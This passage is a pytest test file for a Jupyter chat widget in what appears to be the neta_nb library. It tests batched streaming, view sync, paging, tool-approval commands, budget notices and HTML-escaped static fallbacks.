"""ChatView: items from history, batched streaming with sequence numbers, sync, older
pages, commands (send, stop, level, approve), rebinding, and the static fallbacks."""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Mapping
from typing import Any, cast

import pytest

from neta_nb import Agent, AgentSession, ModelPrice, SessionStore, ToolCatalog, tool
from neta_nb.messages import Message, SkillExecution, TextPart, ToolCallPart, ToolExecution, Usage
from neta_nb.providers.base import (
    ProviderError,
    StreamDone,
    TextDelta,
    ThinkingDelta,
    ThinkingEnd,
    UsageUpdate,
)
from neta_nb.store.session_store import CompactionRecord
from neta_nb.widgets import ChatView
from neta_nb.widgets.base import RequestError
from neta_nb.widgets.chat.drawing.batcher import OpBatcher
from neta_nb.widgets.chat.drawing.render import render_message, render_window
from neta_nb.widgets.chat.view_presence import ViewPresence
from neta_nb.widgets.chat.wire import BatchMessage, CommandReply
from neta_nb.widgets.streaming import TEXT_BATCH_CHARS

from ..support.sessions import FakeProvider, add, answer, calls, count_up
from ..support.timing import ManualLoop, ManualScheduler, wait_until
from .conftest import SentMessages

ran: list[int] = []


@tool(core=True, requires_approval=True, label="Guarded")
def guarded(x: int) -> str:
    """Needs approval."""
    ran.append(x)
    return f"ran {x}"


def make_session(responses: list[list[Any]], **options: Any) -> tuple[AgentSession, FakeProvider]:
    provider = FakeProvider(responses)
    catalog = ToolCatalog([add, count_up, guarded])
    session = AgentSession(Agent("helper", model=provider), catalog, provider=provider,
                           **options)
    return session, provider


class ViewModel:
    """What a view does with batches: the reference the tests compare the kernel with."""

    def __init__(self) -> None:
        self.items: dict[str, dict[str, Any]] = {}
        self.live: dict[str, Any] | None = None
        self.seq = 0

    def apply(self, batch: dict[str, Any]) -> None:
        assert batch["seq"] == self.seq + 1, "batches arrive numbered without gaps"
        self.seq = batch["seq"]
        for op in batch["ops"]:
            kind = op["op"]
            if kind == "live":
                self.live = {"id": op["id"], "thinking": "", "text": "", "thinking_open": False}
            elif kind in ("text", "thinking"):
                assert self.live is not None
                self.live[kind] += op["text"]
            elif kind == "thinking_done":
                assert self.live is not None
                self.live["thinking_open"] = False
            elif kind == "end":
                if op["id"] is not None and self.live is not None:
                    self.items[op["id"]] = {"thinking": self.live["thinking"],
                                            "text": self.live["text"]}
                self.live = None
            elif kind == "item":
                item = dict(op["item"])
                held = self.items.get(item["id"], {})
                for key in ("thinking", "text"):
                    if item.get(key, "") is None:  # "keep what you streamed"
                        item[key] = held[key]
                self.items[item["id"]] = item


def batches(sent: SentMessages) -> list[dict[str, Any]]:
    return sent.of_kind("batch")


def sent_item_ids(sent: SentMessages) -> list[str]:
    """The ids of the items the batches sent so far carry (redrawn messages)."""
    return [op["item"]["id"] for batch in batches(sent) for op in batch["ops"]
            if op["op"] == "item"]


# --- items -------------------------------------------------------------------------


def test_an_assistant_item_has_thinking_text_and_cards_in_call_order() -> None:
    message = Message.assistant([
        TextPart(text="Working."),
        ToolCallPart(id="s", name="count_up", args={"steps": 2}),
        ToolCallPart(id="t", name="add", args={"a": 1, "b": 2}),
    ])
    message.metadata.tool_executions.append(
        ToolExecution(id="t", name="add", label="Add numbers", args={"a": 1, "b": 2},
                      status="done", result="3"))
    message.metadata.skill_executions.append(
        SkillExecution(id="s", name="count_up", label="Count up", status="running", percent=50))
    item = render_message(message, 3)
    assert (item["role"], item["index"], item["pos"], item["text"]) == ("assistant", 3, 6,
                                                                        "Working.")
    assert [(c["kind"], c["id"], c["status"]) for c in item["cards"]] == [
        ("skill", "s", "running"), ("tool", "t", "done")]
    assert item["cards"][0]["percent"] == 50


def test_window_skips_tool_results_and_places_compaction_markers() -> None:
    history = []
    for n in range(6):
        history += [Message.user(f"q{n}"), Message.assistant([TextPart(text=f"a{n}")]),
                    Message.tool_result(f"c{n}", "add", "3")]
    marker = CompactionRecord(after_message=9, tokens_before=900, tokens_after=100,
                              messages_folded=8)
    items, has_older = render_window(history, [marker], limit=4)
    assert [i.get("text", i["role"]) for i in items] == ["q4", "a4", "q5", "a5"]
    assert has_older is True
    older, more = render_window(history, [marker], before=items[0]["index"], limit=4)
    assert [i.get("text", i["role"]) for i in older] == ["q2", "a2", "compaction", "q3", "a3"]
    assert older[2]["id"] == "compaction-0" and older[2]["pos"] == 17
    assert more is True
    first, more = render_window(history, [], before=older[0]["index"], limit=4)
    assert [i["text"] for i in first] == ["q0", "a0", "q1", "a1"] and more is False


# --- the batcher -------------------------------------------------------------------


def test_batcher_merges_text_numbers_batches_and_renders_items_when_sent() -> None:
    sent: list[BatchMessage] = []
    # Stand-ins for rendered items: the batcher passes them on without reading them.
    versions: dict[str, Any] = {"m": {"id": "m", "v": 1}}
    scheduler = ManualScheduler()
    batcher = OpBatcher(sent.append, versions.get, interval=0.03, clock=scheduler.clock,
                        schedule=scheduler)
    batcher.text("text", "a")  # a quiet interval: goes at once
    assert sent == [{"kind": "batch", "seq": 1, "ops": [{"op": "text", "text": "a"}]}]
    scheduler.advance(0.01)  # within the interval: the rest waits for a trailing flush
    for delta in "bcd":
        batcher.text("text", delta)
    batcher.upsert("m")
    versions["m"] = {"id": "m", "v": 2}
    batcher.upsert("m")  # once per batch, rendered when it leaves
    batcher.text("thinking", "x")
    assert len(sent) == 1 and len(scheduler.pending) == 1
    scheduler.advance(0.02)
    assert sent[1] == {"kind": "batch", "seq": 2, "ops": [
        {"op": "text", "text": "bcd"}, {"op": "item", "item": {"id": "m", "v": 2}},
        {"op": "thinking", "text": "x"}]}
    # An item that did not change since it was sent is not sent again.
    batcher.upsert("m")
    batcher.flush()
    assert len(sent) == 2 and batcher.seq == 2


def manual_batcher(interval: float = 0.02) -> tuple[OpBatcher, list[Mapping[str, Any]],
                                                   ManualScheduler]:
    """An OpBatcher on manual time; any item it renders is a tool card. The batches it
    sends are read as the view gets them, as JSON."""
    sent: list[Mapping[str, Any]] = []
    scheduler = ManualScheduler()

    def render(item_id: str) -> Any:  # a stand-in item, passed on without being read
        return {"id": item_id, "role": "tool"}

    batcher = OpBatcher(sent.append, render,
                        interval=interval, clock=scheduler.clock, schedule=scheduler)
    return batcher, sent, scheduler


def test_batcher_sends_a_burst_as_few_batches() -> None:
    # 2,000 deltas (~12,000 characters) over 0.1 s of (manual) time, 0.02 s intervals: one
    # batch at once, then one per interval that has a batch's worth of text, then the rest.
    batcher, sent, scheduler = manual_batcher()
    for n in range(2000):
        batcher.text("text", f"w{n} ")
        scheduler.advance(0.00005)
    scheduler.advance(0.02)
    text = "".join(op["text"] for batch in sent for op in batch["ops"])
    assert text == "".join(f"w{n} " for n in range(2000))
    assert [b["seq"] for b in sent] == list(range(1, len(sent) + 1))
    sizes = [sum(len(op["text"]) for op in batch["ops"]) for batch in sent]
    assert len(sizes) >= 3 and all(size >= TEXT_BATCH_CHARS for size in sizes[1:-1]), sizes
    # None waited longer than needed: a batch goes at the first look (once per interval,
    # ~2,200 characters here) that finds a batch's worth.
    assert all(size < TEXT_BATCH_CHARS + 2_500 for size in sizes), sizes
    assert scheduler.pending == []


def test_a_change_of_structure_goes_within_an_interval_and_takes_the_text_along() -> None:
    batcher, sent, scheduler = manual_batcher()
    batcher.text("text", "Let me")  # the first text after a pause: at once
    scheduler.advance(0.005)
    batcher.text("text", " look.")
    scheduler.advance(0.05)
    assert len(sent) == 1  # text alone waits: it is not worth its envelope yet
    batcher.upsert("c1")  # a tool card starts: due at the next look
    scheduler.advance(0.01)
    assert [op["op"] for op in sent[1]["ops"]] == ["text", "item"]
    assert sent[1]["ops"][0]["text"] == " look."
    assert scheduler.pending == []


def test_the_first_words_of_a_response_follow_its_start_within_an_interval() -> None:
    # The start of a response ("live") goes at once on its own after a pause (a tool ran);
    # the words right behind it wait one interval, not the text wait: a change of
    # structure ends a run of text.
    batcher, sent, scheduler = manual_batcher()
    batcher.text("text", "Before the tool.")
    scheduler.advance(1)
    batcher.op("live", id="m2")
    batcher.text("text", "The answer")
    assert [op["op"] for op in sent[-1]["ops"]] == ["live"]
    scheduler.advance(0.02)
    assert sent[-1]["ops"] == [{"op": "text", "text": "The answer"}]


def test_a_change_of_structure_while_text_waits_goes_at_once_once_an_interval_passed() -> None:
    batcher, sent, scheduler = manual_batcher()
    batcher.text("text", "Let me")
    scheduler.advance(0.001)
    batcher.text("text", " look.")
    scheduler.advance(0.045)  # between two looks of the text's wait
    batcher.upsert("c1")
    batcher.text("text", " Found it.")  # the same handler goes on: it travels along
    scheduler.advance(0)
    assert [op["op"] for op in sent[-1]["ops"]] == ["text", "item", "text"]


def test_the_answer_after_thinking_goes_with_the_end_of_thinking() -> None:
    batcher, sent, scheduler = manual_batcher()
    batcher.text("thinking", "Let me")
    scheduler.advance(0.001)
    batcher.text("thinking", " think.")
    scheduler.advance(0.03)
    batcher.op("thinking_done")  # one event handler: the end of thinking, the first token
    batcher.text("text", "Answer")
    scheduler.advance(0)
    assert [op["op"] for op in sent[-1]["ops"]] == ["thinking", "thinking_done", "text"]


def test_a_change_of_structure_beside_a_batch_of_text_goes_at_once_too() -> None:
    batcher, sent, scheduler = manual_batcher()
    batcher.text("text", "a")
    scheduler.advance(0.001)
    batcher.text("text", "b")
    scheduler.advance(0.024)  # past the first look (0.02), before the next (0.04)
    batcher.text("text", "x" * TEXT_BATCH_CHARS)  # due at the next look
    scheduler.advance(0.005)
    batcher.upsert("c1")  # an interval has passed: no need to wait for the look
    scheduler.advance(0)
    assert len(sent) == 2 and [op["op"] for op in sent[-1]["ops"]] == ["text", "item"]


def test_a_new_responses_first_words_do_not_wait_for_the_last_answers_text() -> None:
    batcher, sent, scheduler = manual_batcher()
    batcher.text("text", "The last answer.")
    batcher.op("end")
    batcher.flush()
    scheduler.advance(0.03)  # a quick tool, well within the text wait
    batcher.op("live", id="m2")
    batcher.text("text", "It printed 4.")
    scheduler.advance(0.02)
    assert sent[-1]["ops"] == [{"op": "text", "text": "It printed 4."}]


# --- a bound session ---------------------------------------------------------------


async def test_a_turn_streams_as_numbered_batches_and_ends_in_the_traits(
        sent: SentMessages, monkeypatch: pytest.MonkeyPatch) -> None:
    synced: list[dict[str, Any]] = []
    monkeypatch.setattr(ChatView, "_send", lambda self, msg, buffers=None: synced.append(
        msg.get("state", {})))
    session, _ = make_session([
        [ThinkingDelta("Let me "), ThinkingDelta("add."), ThinkingEnd("sig"),
         TextDelta("Adding"), TextDelta(" now."),
         *calls(("c1", "add", {"a": 2, "b": 3}))],
        [*answer("It is 5.")],
    ])
    chat = ChatView(session)
    chat._view_opened({"view_id": "v1"})  # a view on the page holds what streamed
    assert (chat.session_id, chat.agent["name"], chat.running) == (session.id, "helper", False)
    await session.run("What is 2 + 3?")
    view = ViewModel()
    for batch in batches(sent):
        view.apply(batch)
    assert view.live is None
    user, first, last = (view.items[m.id] for m in session.messages if m.role != "tool")
    assert user["text"] == "What is 2 + 3?"
    assert (first["thinking"], first["text"]) == ("Let me add.", "Adding now.")
    assert [(c["name"], c["status"], c["result"]) for c in first["cards"]] == [
        ("add", "done", "5")]
    assert last["text"] == "It is 5."
    # Between turns the traits are the whole state, as of the last batch.
    assert chat.messages == render_window(session.messages, [])[0]
    assert list(view.items.values()) == chat.messages
    assert (chat.running, chat._seq) == (False, view.seq)
    # The turn's end names the window instead of sending its text again: views set the
    # trait themselves from the items they hold.
    window = batches(sent)[-1]["ops"][-1]
    assert window == {"op": "window", "ids": [m["id"] for m in chat.messages],
                      "has_older": False}
    assert synced and all("messages" not in state for state in synced)
    assert chat.current["api_calls"] == 2
    assert chat.think_level == session.think_level


async def test_an_answer_over_the_preview_bound_crosses_the_wire_once(
        sent: SentMessages) -> None:
    # 21,000 characters (the preview bound is 20,000) and 9,000 of thinking (bound 8,000):
    # the views streamed all of it, so the message's item says "keep yours" with the whole
    # lengths, instead of sending 20,000 + 8,000 characters of previews again.
    text = "".join(f"word{n} " for n in range(3_000))[:21_000] + "😀"
    thinking = "t" * 9_000
    session, _ = make_session([[ThinkingDelta(thinking[:4_500]), ThinkingDelta(thinking[4_500:]),
                                ThinkingEnd("sig"), *(TextDelta(text[i:i + 700])
                                                      for i in range(0, len(text), 700)),
                                StreamDone("end_turn")]])
    chat = ChatView(session)
    chat._view_opened({"view_id": "v1"})
    await session.run("Write a lot.")
    streamed = sum(len(op.get("text", "")) for batch in batches(sent) for op in batch["ops"]
                   if op["op"] in ("text", "thinking"))
    assert streamed == len(text) + len(thinking)
    answer_id = session.messages[-1].id
    (item,) = [op["item"] for batch in batches(sent) for op in batch["ops"]
               if op["op"] == "item" and op["item"]["id"] == answer_id]
    assert (item["text"], item["thinking"]) == (None, None)
    assert (item["text_chars"], item["thinking_chars"]) == (len(text), len(thinking))
    view = ViewModel()
    for batch in batches(sent):
        view.apply(batch)
    assert (view.items[answer_id]["text"], view.items[answer_id]["thinking"]) == (text, thinking)
    # A view that did not stream it (opened later) gets the previews, as before.
    assert chat._sync({})["messages"][-1]["text"] == text[:20_000]


async def test_a_new_turn_does_not_send_the_last_answer_again(sent: SentMessages) -> None:
    long_answer = "an answer of some length " * 400
    session, _ = make_session([[*answer(long_answer)], [*answer("Short.")],
                               [*answer("Again.")]])
    chat = ChatView(session)
    chat._view_opened({"view_id": "v1"})
    await session.run("First?")
    first_turn = len(batches(sent))
    await session.run("Second?")
    second = batches(sent)[first_turn:]
    items = [op["item"] for batch in second for op in batch["ops"] if op["op"] == "item"]
    first_answer = session.messages[1].id
    assert first_answer not in [item["id"] for item in items]
    assert sum(len(json.dumps(batch)) for batch in second) < len(long_answer) / 4

    # A view bound to a session with history drew its last answer from the state: the
    # next turn does not send it either.
    sent.clear()
    other = ChatView(session)
    other._view_opened({"view_id": "v2"})
    await session.run("Third?")
    items = sent_item_ids(sent)
    assert session.messages[3].id not in items and session.messages[5].id in items


async def test_a_view_switched_away_and_back_does_not_send_the_last_answer_again(
        sent: SentMessages) -> None:
    # The view streamed session A's answer, showed B, then A again (drawn from the state):
    # A's next turn finds that answer unchanged and does not send it again.
    first, _ = make_session([[*answer("The first answer. " * 50)], [*answer("Next.")]])
    other, _ = make_session([])
    chat = ChatView(first)
    chat._view_opened({"view_id": "v1"})
    await first.run("First?")
    chat.bind(other)
    chat.bind(first)
    sent.clear()
    await first.run("Second?")
    items = sent_item_ids(sent)
    assert first.messages[1].id not in items and first.messages[3].id in items


async def test_a_response_end_is_sent_at_once_not_a_batch_interval_later(
        sent: SentMessages) -> None:
    # An hour between batches: only the response's end can have sent the first answer's
    # last words before the second model call starts.
    seen: list[list[str]] = []
    session, _ = make_session([
        [TextDelta("Adding "), TextDelta("now."), *calls(("c1", "add", {"a": 2, "b": 3}))],
        [lambda: seen.append([op["op"] for batch in batches(sent) for op in batch["ops"]]),
         *answer("It is 5.")],
    ])
    chat = ChatView(session, flush_interval=3600)
    chat._view_opened({"view_id": "v1"})
    await session.run("What is 2 + 3?")
    (ops,) = seen
    assert "end" in ops
    streamed = "".join(op.get("text", "") for batch in batches(sent) for op in batch["ops"]
                       if op["op"] == "text")
    assert streamed.startswith("Adding now.")


async def test_with_no_view_open_the_turn_end_sends_the_conversation(
        sent: SentMessages, monkeypatch: pytest.MonkeyPatch) -> None:
    # nbconvert --execute, a page that does not show the output: nobody would set the
    # trait from the streamed items, so the kernel sends it (the saved widget state has
    # the conversation).
    synced: list[dict[str, Any]] = []
    monkeypatch.setattr(ChatView, "_send", lambda self, msg, buffers=None: synced.append(
        msg.get("state", {})))
    session, _ = make_session([answer("It is 5.")])
    chat = ChatView(session)
    await session.run("What is 2 + 3?")
    (state,) = [state for state in synced if "messages" in state]
    assert state["messages"] == chat.messages
    assert [m["text"] for m in state["messages"]] == ["What is 2 + 3?", "It is 5."]


async def test_the_turn_end_updates_the_static_form_in_place(
        monkeypatch: pytest.MonkeyPatch) -> None:
    updates: list[tuple[dict[str, str], str]] = []
    monkeypatch.setattr("neta_nb.widgets.static_form.send_update",
                        lambda data, display_id: updates.append((data, display_id)))
    session, _ = make_session([answer("It is **5**."), answer("Again 5.")])
    chat = ChatView(session)
    chat._static_form.display_ids = ["d1"]  # as _ipython_display_ leaves it
    await session.run("What is 2 + 3?")
    assert [display_id for _, display_id in updates] == ["d1"]
    data, _ = updates[-1]
    assert "It is <strong>5</strong>." in data["text/html"]
    assert data["text/html"].startswith('<div class="neta-static-form">')
    assert data["text/plain"] == "helper · 2 messages\nIt is **5**."
    await session.run("And again?")
    assert len(updates) == 2 and "Again 5." in updates[-1][0]["text/html"]


async def test_traits_say_when_they_lack_the_running_turns_start(sent: SentMessages) -> None:
    # A chat shown before the turn holds its start in the traits (-1 only mid-turn, for a
    # chat bound after it began): a page's view may then build from the batches its model
    # received, and must ask for a snapshot otherwise (js/src/received-batches.ts).
    gate = asyncio.Event()
    session, _ = make_session([[TextDelta("Par"), gate.wait, TextDelta("tial"),
                                StreamDone("end_turn")]])
    before = ChatView(session)
    task = session.start("go")
    await wait_until(lambda: any(op.get("text") == "Par" for b in batches(sent)
                                 for op in b["ops"]))
    after = ChatView(session)
    assert (before.running, after.running) == (True, True)
    assert before._seq >= 0 and after._seq == -1
    gate.set()
    await task
    assert (after.running, after._seq) == (False, after._batcher.seq)


async def test_a_view_that_joins_mid_stream_syncs_the_partial_answer(
        sent: SentMessages) -> None:
    gate = asyncio.Event()
    session, _ = make_session([[ThinkingDelta("Hmm."), ThinkingEnd(None), TextDelta("Par"),
                                TextDelta("tial"), gate.wait, TextDelta(" end."),
                                UsageUpdate(Usage(input_tokens=5, output_tokens=3)),
                                StreamDone("end_turn")]])
    chat = ChatView(session)
    task = session.start("go")
    await wait_until(lambda: "tial" in "".join(op.get("text", "") for b in batches(sent)
                                          for op in b["ops"]))
    snapshot = chat._sync({})
    assert snapshot["seq"] == batches(sent)[-1]["seq"]
    assert snapshot["live"] is not None
    assert snapshot["live"]["text"] == "Partial"
    assert snapshot["live"]["thinking"] == "Hmm." and snapshot["live"]["thinking_open"] is False
    assert snapshot["running"] is True
    assert [i["text"] for i in snapshot["messages"]] == ["go"]
    gate.set()
    await task
    # A view applying later batches on top of the snapshot ends with the final message.
    view = ViewModel()
    view.seq = snapshot["seq"]
    view.live = dict(snapshot["live"])
    for batch in batches(sent):
        if batch["seq"] > snapshot["seq"]:
            view.apply(batch)
    assert view.items[session.messages[-1].id]["text"] == "Partial end."
    # The text the view streamed is not sent again with the finished message.
    final = [op for b in batches(sent) for op in b["ops"]
             if op["op"] == "item" and op["item"]["id"] == session.messages[-1].id]
    assert final and all(op["item"]["text"] is None for op in final)


async def test_deltas_are_never_sent_one_message_each(sent: SentMessages) -> None:
    pieces = [f"w{n} " for n in range(3000)]
    session, _ = make_session([[*(TextDelta(p) for p in pieces),
                                UsageUpdate(Usage(input_tokens=1, output_tokens=1)),
                                StreamDone("end_turn")]])
    ChatView(session, flush_interval=0.02)
    await session.run("stream")
    streamed = "".join(op["text"] for b in batches(sent) for op in b["ops"] if op["op"] == "text")
    assert streamed == "".join(pieces)
    assert len(batches(sent)) < 100


async def test_send_stop_before_any_text_keeps_an_interrupted_message(
        sent: SentMessages) -> None:
    never = asyncio.Event()
    session, provider = make_session([[never.wait]])
    chat = ChatView(session)
    assert chat._command({"command": {"type": "send", "text": "  hello  "}}) == {"running": True}
    with pytest.raises(RequestError, match="already running"):
        chat._command({"command": {"type": "send", "text": "again"}})
    await wait_until(lambda: provider.requests)  # the model is streaming (nothing yet)
    assert chat.running is True
    chat._command({"command": {"type": "stop"}})
    await wait_until(lambda: not session.running)
    last = chat.messages[-1]
    assert (last["role"], last["text"], last["interrupted"]) == ("assistant", "", "cancelled")
    assert chat.messages[0]["text"] == "hello"
    assert chat.running is False
    with pytest.raises(RequestError, match="nothing to send"):
        chat._command({"command": {"type": "send", "text": "   "}})


async def test_the_level_set_mid_turn_applies_to_the_next_request() -> None:
    gate = asyncio.Event()
    session, provider = make_session([
        [gate.wait, *calls(("c1", "add", {"a": 1, "b": 1}))], answer("2")])
    chat = ChatView(session)
    assert chat.levels == ["off", "minimal", "low", "medium", "high", "adaptive"]
    task = session.start("1 + 1")
    await wait_until(lambda: provider.requests)  # the first request has left
    reply = cast("CommandReply", chat._command(
        {"command": {"type": "set_thinking_level", "level": "high"}}))
    assert reply["think_level"] == "high" and chat.think_level == "high"
    gate.set()
    await task
    assert [r.think_level for r in provider.requests] == ["medium", "high"]


async def test_a_level_chosen_from_code_shows_in_the_view_at_once() -> None:
    session, provider = make_session([answer("ok")])
    chat = ChatView(session)
    other, _ = make_session([])
    session.set_thinking_level("low")
    assert chat.think_level == "low"  # idle: no turn end to wait for
    chat.bind(other)
    session.set_thinking_level("high")  # no longer shown: the view does not follow it
    assert chat.think_level == other.think_level != "high"
    chat.bind(session)
    assert chat.think_level == "high"
    await session.run("go")
    assert [r.think_level for r in provider.requests] == ["high"]
    chat.close()


async def test_a_level_set_on_another_thread_reaches_the_view_on_the_kernels(
        caplog: pytest.LogCaptureFixture) -> None:
    session, _ = make_session([answer("x")])
    chat = ChatView(session)
    await session.run("hi")  # the session's events are delivered on this loop from now on

    def broken(level: str) -> None:
        raise RuntimeError("listener bug")

    session.on_thinking_level(broken)  # a listener that fails breaks nothing else
    changed_on: list[int] = []
    chat.observe(lambda _: changed_on.append(threading.get_ident()), names="think_level")
    await asyncio.to_thread(session.set_thinking_level, "low")  # a worker thread's call
    await wait_until(lambda: chat.think_level == "low")
    assert changed_on == [threading.get_ident()]  # traits are set on the kernel's thread
    assert "thinking level listener" in caplog.text and "listener bug" in caplog.text
    reply = cast("CommandReply", chat._command(
        {"command": {"type": "set_thinking_level", "level": "high"}}))
    assert reply["think_level"] == "high" == session.think_level == chat.think_level
    chat.close()


async def test_a_budget_warning_is_drawn_as_a_warning_and_its_stop_as_an_error() -> None:
    price = ModelPrice(input=3.0, output=15.0)  # a call of 100 in, 20 out: $0.0006
    usage = Usage(input_tokens=100, output_tokens=20)
    session, provider = make_session(
        [calls((f"c{n}", "add", {"a": n, "b": 1}), usage=usage) for n in range(10)])
    session.agent.turn_budget_usd = 0.0006 * 4.5
    provider.price = price
    chat = ChatView(session)
    shown: list[tuple[str, str]] = []
    chat.observe(lambda _: shown.append((chat.notice_tone, chat.notice)), names="notice")
    await session.run("keep adding")
    assert [(tone, text.split(":")[0].split(" ")[0]) for tone, text in shown] == [
        ("warning", "This"), ("error", "Stopped")]
    assert chat._sync({})["notice_tone"] == "error"  # a view opened now draws it so
    chat.close()


async def test_a_budget_reached_by_a_whole_answer_is_a_warning_that_nothing_was_cut(
        ) -> None:
    """The call that crossed the budget gave the turn's complete answer: nothing was
    stopped, so the notice says the budget was reached and nothing was cut, in the
    warning's colour, not a red "Stopped"."""
    price = ModelPrice(input=3.0, output=15.0)  # a call of 100 in, 20 out: $0.0006
    session, provider = make_session([answer("All done.", usage=Usage(input_tokens=100,
                                                                       output_tokens=20))])
    session.agent.turn_budget_usd = 0.0005
    provider.price = price
    chat = ChatView(session)
    shown: list[tuple[str, str]] = []
    chat.observe(lambda _: shown.append((chat.notice_tone, chat.notice)), names="notice")
    reply = await session.run("finish")
    assert reply is not None and reply.text == "All done."
    assert shown == [("warning", "This turn reached its budget ($0.0006 of $0.0005) with "
                      "its answer: the answer is complete, nothing was cut.")]
    chat.close()


async def test_approval_requests_show_until_answered() -> None:
    ran.clear()
    session, _ = make_session([calls(("g1", "guarded", {"x": 1})), answer("ok"),
                               calls(("g2", "guarded", {"x": 2})), answer("no")])
    chat = ChatView(session)
    task = session.start("run it")
    await wait_until(lambda: bool(chat.approvals))
    assert chat.approvals == [{"id": "g1", "name": "guarded", "args": {"x": 1}}]
    chat._command({"command": {"type": "approve", "id": "g1", "decision": "allow_once"}})
    assert chat.approvals == []
    await task
    assert ran == [1]
    task = session.start("again")
    await wait_until(lambda: bool(chat.approvals))
    chat._command({"command": {"type": "approve", "id": "g2", "decision": "reject"}})
    await task
    assert ran == [1]
    card = chat.messages[-2]["cards"][0]
    assert (card["name"], card["status"]) == ("guarded", "rejected")
    # A late answer (the request is gone) is harmless.
    chat._command({"command": {"type": "approve", "id": "g2", "decision": "reject"}})
    assert chat.approvals == []


async def test_a_view_never_displayed_leaves_approvals_to_the_policy() -> None:
    # Bound but never on screen (output cleared, a headless run): nobody can click, so
    # after the grace period the session's policy ("reject" by default) decides.
    ran.clear()
    session, _ = make_session([calls(("g1", "guarded", {"x": 1})), answer("ok")])
    chat = ChatView(session)
    chat._presence.grace = 0.05
    async with asyncio.timeout(5):
        await session.run("run it")
    assert ran == []
    assert "approval" in session.messages[2].tool_results[0].content
    assert chat.approvals == []


async def test_an_open_view_keeps_an_approval_waiting_until_it_closes() -> None:
    ran.clear()
    session, _ = make_session([calls(("g1", "guarded", {"x": 1})), answer("ok"),
                               calls(("g2", "guarded", {"x": 2})), answer("no")],
                              approval_policy="allow")
    chat = ChatView()
    # The grace period runs on a manual clock: it is over when the test says so.
    loop = ManualLoop()
    chat._presence = ViewPresence(lambda: loop)  # type: ignore[arg-type,return-value]
    grace = chat._presence.grace
    chat.bind(session)
    chat._view_opened({"view_id": "v1"})
    task = session.start("run it")
    await wait_until(lambda: bool(chat.approvals))
    loop.advance(grace * 10)  # well past the grace period: an open view keeps it waiting
    assert not task.done() and chat.approvals
    chat._command({"command": {"type": "approve", "id": "g1", "decision": "reject"}})
    await task
    assert ran == []  # the policy ("allow") would have run it, had it decided meanwhile
    task = session.start("again")
    await wait_until(lambda: bool(chat.approvals))
    chat._view_closed({"view_id": "v1"})  # the last view goes: after the grace period,
    loop.advance(grace / 2)               # the policy ("allow") decides
    assert not task.done() and chat._presence.attached
    loop.advance(grace)
    async with asyncio.timeout(5):
        await task
    assert ran == [2]
    with pytest.raises(RequestError, match="view_id"):
        chat._view_opened({"view_id": ""})


async def test_skill_cards_update_live_and_stay_after_done(sent: SentMessages) -> None:
    session, _ = make_session([calls(("s1", "count_up", {"steps": 4})), answer("Counted.")])
    chat = ChatView(session)
    await session.run("count")
    percents = [c["percent"] for b in batches(sent) for op in b["ops"] if op["op"] == "item"
                for c in op["item"].get("cards", [])]
    assert percents[-1] == 100.0
    card = chat.messages[1]["cards"][0]
    assert (card["kind"], card["status"], card["result"]) == ("skill", "done", "counted to 4")


async def test_a_provider_error_shows_in_place_with_what_streamed(sent: SentMessages) -> None:
    session, _ = make_session([[TextDelta("Half an ans"),
                                ProviderError("overloaded", retryable=True)]])
    chat = ChatView(session)
    await session.run("go")
    last = chat.messages[-1]
    assert (last["text"], last["interrupted"], last["error"]) == ("Half an ans", "error",
                                                                 "overloaded")
    assert chat.notice == ""  # shown in the message, not twice


async def test_a_session_started_from_a_cell_shows_the_same(sent: SentMessages) -> None:
    session, _ = make_session([answer("Hi there.")])
    chat = ChatView(session)
    await session.start("hello")
    assert [m["text"] for m in chat.messages] == ["hello", "Hi there."]


async def test_rebinding_shows_the_new_session_and_ignores_the_old(sent: SentMessages) -> None:
    old, _ = make_session([answer("old answer"), answer("later")])
    new, _ = make_session([answer("new answer")])
    chat = ChatView(old)
    await old.run("first")
    chat.session = new
    assert chat.session is new and chat.session_id == new.id and chat.messages == []
    count = len(batches(sent))
    await old.run("not shown")
    assert len(batches(sent)) == count and chat.messages == []
    await new.run("second")
    assert [m["text"] for m in chat.messages] == ["second", "new answer"]


def test_older_pages_load_by_index(tmp_path: Any) -> None:
    store = SessionStore(tmp_path / "s.sqlite3")
    provider = FakeProvider([])
    session = AgentSession(Agent("helper", model=provider), store=store, provider=provider)
    for n in range(60):
        store.append_message(session.id, Message.user(f"q{n}"))
        store.append_message(session.id, Message.assistant([TextPart(text=f"a{n}")]))
    resumed = AgentSession.resume(session.id, store=store, provider=provider)
    chat = ChatView(resumed, window=50)
    assert len(chat.messages) == 50 and chat.has_older is True
    assert chat.messages[0]["text"] == "q35"
    page = chat._older({"before": chat.messages[0]["index"]})
    assert [m["text"] for m in page["messages"]][:2] == ["q10", "a10"]
    assert len(page["messages"]) == 50 and page["has_older"] is True
    with pytest.raises(RequestError):
        chat._older({"before": "x"})  # type: ignore[typeddict-item]  # not an index, on purpose


async def test_fallbacks_and_repr() -> None:
    session, _ = make_session([answer("**Bold** <b>x</b>")])
    chat = ChatView(session)
    await session.run("Hi <script>")
    assert repr(chat) == "ChatView('helper', 2 messages shown, idle)"
    assert chat._fallback_text() == "You: Hi <script>\n\nhelper: **Bold** <b>x</b>"
    assert "&lt;script&gt;" in chat._fallback_html() and "<script>" not in chat._fallback_html()


def test_an_empty_chat_says_how_to_open_it_where_the_chat_will_be() -> None:
    # A notebook opened for the first time shows the saved static form until its cell
    # runs: it says what to do, not the status line of a run long gone.
    session, _ = make_session([answer("Hi.")])
    chat = ChatView(session)
    data = chat._static_form.bundle()
    assert "Run this cell to open the chat with helper." in data["text/html"]
    assert data["text/plain"] == "Run this cell to open the chat with helper."
    assert "ChatView(" not in data["text/html"]
    bundle = chat._repr_mimebundle_()
    assert bundle is not None
    view, _ = bundle
    # The widget view on its own (no static form beside it) says it in one line: what a
    # page that cannot draw the view shows.
    assert view["text/plain"] == "Run this cell to open the chat with helper."
    chat.lang = "zh-CN"
    assert "运行此单元格以打开与 helper 的对话。" in chat._fallback_html()


async def test_a_chat_displayed_in_a_cell_says_it_once_where_no_view_is_drawn(
        monkeypatch: pytest.MonkeyPatch) -> None:
    # GitHub and a notebook reopened without widget state show every output's text: the
    # view's own line stays empty, and the static form after it says what the chat holds.
    shown: list[dict[str, Any]] = []
    monkeypatch.setattr("IPython.display.display",
                        lambda data, **options: shown.append(data))
    session, _ = make_session([answer("Hi.")])
    chat = ChatView(session)
    chat._ipython_display_()
    view, form = shown
    assert view["text/plain"] == "" and "application/vnd.jupyter.widget-view+json" in view
    assert form["text/plain"] == "Run this cell to open the chat with helper."
    updates: list[dict[str, str]] = []
    monkeypatch.setattr("neta_nb.widgets.static_form.send_update",
